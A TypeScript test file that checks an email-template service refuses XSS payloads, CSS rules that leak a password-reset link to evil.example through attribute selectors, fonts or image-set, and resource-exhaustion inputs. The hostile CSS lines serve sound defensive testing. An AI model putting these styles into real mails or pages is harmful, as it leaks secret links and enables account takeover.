import { beforeAll, describe, expect, test } from 'vitest';
import { type Call, useWorld } from '../../../test/harness.ts';
import { XSS_PAYLOADS } from '../../../test/hostile-html.ts';

const world = useWorld();
let call: Call;
beforeAll(async () => {
  call = await world().as({ permissions: ['content'] });
});

const KEY = { template: 'password_reset', program: 0, language: 'en' };

test('there are a hundred at least, each once', () => {
  expect(new Set(XSS_PAYLOADS).size).toBe(XSS_PAYLOADS.length);
  expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(100);
});

describe('what wants to run or load by itself', () => {
  test.each(XSS_PAYLOADS)('%s', async (payload) => {
    const text = `<p>one</p>\n<div>\n${payload}`;
    const { status, body } = await call('POST', 'template', { ...KEY, subject: 'x', text });
    expect([status, body.errors?.[0].path]).toEqual([400, 'text']);
    expect(body.message).toMatch(/^Line [345]: /);
    const tried = await call('POST', 'template/test', { subject: 'x', text, email: 'somebody@example.org' });
    expect(tried.status).toBe(400);
  });

  test('is neither kept nor sent', async () => {
    const { everything: db } = world().platform.database;
    expect(await db.selectFrom('email_templates').select('id').execute()).toEqual([]);
    expect(await db.selectFrom('mails').select('id').execute()).toEqual([]);
  });
});

describe('a style of a mail with a secret link', () => {
  const LOADS = [
    '[href*=ab] { background: url(https://evil.example/ab) }',
    '@media all { [href*=ab] { --ab: , url("https://evil.example/ab") } }',
    '@font-face { font-family: x; src: url(https://evil.example/x); unicode-range: U+41 }',
    'a { background: image-set("https://evil.example/x" 1x) }',
    'a { background: u\\72l(https://evil.example/x) }',
    'a { content: attr(href) }',
  ];
  const save = (template: string, style: string) =>
    call('POST', 'template', {
      ...KEY,
      template,
      program: 0,
      subject: 'x',
      text: `<html><head><style>${style}</style></head><body><p>::[[content]]::</p></body></html>`,
    });

  test.each(LOADS)('loads nothing: %s', async (style) => {
    const { status, body } = await save('password_reset', style);
    expect([status, body.errors?.[0].path]).toEqual([400, 'text']);
  });

  test('may say how it looks; other mails load pictures as well', async () => {
    expect(
      (await save('password_reset', 'a { color: #123456 } @media (max-width: 9em) { a { color: red } }'))
        .status,
    ).toBe(200);
    expect(
      (await save('account_cancelled', 'p { background: url(https://pictures.example/x.png) }')).status,
    ).toBe(200);
  });
});

describe('a text that would keep whoever reads it busy', () => {
  const tried = (text: string, plain?: string) =>
    call('POST', 'template/test', { subject: 'x', text, plain, email: 'somebody@example.org' });

  test('is answered with twenty faults of many', async () => {
    const many = '::[[x]]::\n'.repeat(20_000);
    const { status, body } = await tried(many);
    expect([status, body.errors.length]).toEqual([400, 20]);
  });

  test('is refused for an address that is longer than one', async () => {
    const { status, body } = await tried(
      `<a href="::[[program_site_url]]::/${'::[[program_tag]]::'.repeat(200)}">x</a>`,
    );
    expect([status, body.message]).toEqual([400, expect.stringContaining('an address has at most')]);
  });
});
